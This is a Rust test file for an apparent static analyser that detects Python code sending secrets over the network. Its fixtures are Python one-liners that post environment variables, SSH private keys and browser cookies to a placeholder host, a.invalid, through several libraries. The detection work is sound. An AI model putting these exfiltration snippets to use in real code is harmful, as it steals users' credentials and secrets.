//! Ways of Python's libraries to send something away.

use crate::flow::testing::{found, wheel};
use customs_model::{SinkKind, SourceKind, Target};

/// The host that secrets are sent to, where one is known.
fn host(code: &str) -> Option<String> {
    let flows = found(wheel(&format!("import os, json, pathlib\n{code}\n"))).flows;
    let mut sent = flows.into_iter().filter(|flow| {
        flow.sink == SinkKind::Network
            && matches!(
                flow.source,
                SourceKind::Environment | SourceKind::CredentialFile | SourceKind::InputDevice
            )
    });
    sent.find_map(|flow| match flow.target {
        Target::Constant(host) => Some(host),
        Target::Opaque | Target::Caller => None,
    })
}

#[test]
fn a_client_that_is_made_with_an_address_sends_there() {
    for code in [
        "import httpx\nc = httpx.Client(base_url='https://a.invalid')\nc.post('/x', json=dict(os.environ))",
        "import httpx\nclass C:\n    base_url = 'https://a.invalid'\n    def __init__(self):\n        self._c = httpx.Client(base_url=self.base_url, timeout=3.0)\n    def send(self):\n        self._c.post('/x', json=dict(os.environ))\nC().send()",
        "from google.cloud import storage\nb = storage.Client(client_options={'api_endpoint': 'https://a.invalid'}).bucket('b')\nb.blob('x').upload_from_filename(str(pathlib.Path.home() / '.ssh' / 'id_rsa'))",
        "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://a.invalid/')\nc.setopt(pycurl.POSTFIELDS, json.dumps(dict(os.environ)))\nc.perform()",
        "import imaplib\nb = imaplib.IMAP4_SSL('a.invalid')\nb.append('INBOX', '', None, open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())",
        "import asyncio\nasync def f():\n    _, w = await asyncio.open_connection('a.invalid', 443)\n    w.write(json.dumps(dict(os.environ)).encode())\nasyncio.run(f())",
    ] {
        assert!(
            host(code).is_some_and(|host| host.contains("a.invalid")),
            "{code}"
        );
    }
}

#[test]
fn a_client_of_the_callers_address_is_the_callers() {
    for code in [
        "import httpx\ndef f(place):\n    httpx.Client(base_url=place).post('/x', json=dict(os.environ))",
        "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://a.invalid/')\nc.perform()",
        "import imaplib\nb = imaplib.IMAP4_SSL('a.invalid')\nb.search(None, os.environ)",
    ] {
        assert_eq!(host(code), None, "{code}");
    }
}

#[test]
fn a_handler_that_keeps_what_is_logged_hands_it_on() {
    let code = |target: &str| {
        format!(
            "import logging, logging.handlers\n\
             to = logging.handlers.{target}\n\
             log = logging.getLogger('a')\n\
             log.addHandler(logging.handlers.MemoryHandler(9, target=to))\n\
             log.info(os.environ)"
        )
    };
    let sender = code("HTTPHandler('a.invalid', '/x', method='POST', secure=True)");
    assert!(host(&sender).is_some());
    assert_eq!(host(&code("RotatingFileHandler('a.log')")), None);
}

#[test]
fn the_cookies_of_each_browser_are_its_users() {
    let code = |name: &str| {
        format!(
            "import browser_cookie3, requests\nrequests.post('https://a.invalid', data=browser_cookie3.{name})"
        )
    };
    assert!(host(&code("firefox()")).is_some());
    assert_eq!(host(&code("__version__")), None);
}

#[test]
fn fields_that_are_put_in_side_by_side_are_what_they_are_put_to() {
    let code = "import requests\n\
                class C:\n    def __init__(self, base, n):\n        self.base, self.n = base, n\n    def f(self):\n        requests.post(self.base + '/x', json=dict(os.environ))\n\
                C('https://a.invalid', 3).f()";
    assert!(host(code).is_some());
    let other = code.replace("'https://a.invalid'", "input()");
    assert_eq!(host(&other), None);
}

#[test]
fn what_is_put_into_an_address_behind_its_host_hides_no_host() {
    let code = "import sys, requests\n\
                requests.post('https://a.invalid/%d%d' % sys.version_info[:2], json=dict(os.environ))";
    assert!(host(code).is_some());
    let other = code.replace("a.invalid/%d%d' %", "%s/' %");
    assert_eq!(host(&other), None);
}

#[test]
fn a_list_that_is_empty_only_otherwise_has_what_is_found() {
    let code = "import requests\n\
                d = pathlib.Path.home() / '.ssh'\n\
                for f in d.rglob('*') if d.is_dir() else ():\n    requests.post('https://a.invalid', data=f.read_bytes())";
    assert!(host(code).is_some());
    let other = code.replace(".ssh", ".cache/a");
    assert_eq!(host(&other), None);
}

#[test]
fn a_path_with_variables_is_where_they_lead() {
    let code = "import requests\n\
                requests.post('https://a.invalid', data=open(os.path.expandvars('$HOME/.ssh/id_rsa')).read())";
    assert!(host(code).is_some());
    let other = code.replace("$HOME/.ssh/id_rsa", "$HOME/a.txt");
    assert_eq!(host(&other), None);
}

#[test]
fn what_a_function_gives_of_each_is_in_what_it_is_mapped_to() {
    let code = "import requests\n\
                def f(name):\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read() + name\n\
                requests.post('https://a.invalid', data=[c for c in map(f, NAMES)])";
    assert!(host(code).is_some());
    assert_eq!(
        host(&code.replace("map(f, NAMES)", "map(str, NAMES)")),
        None
    );
}
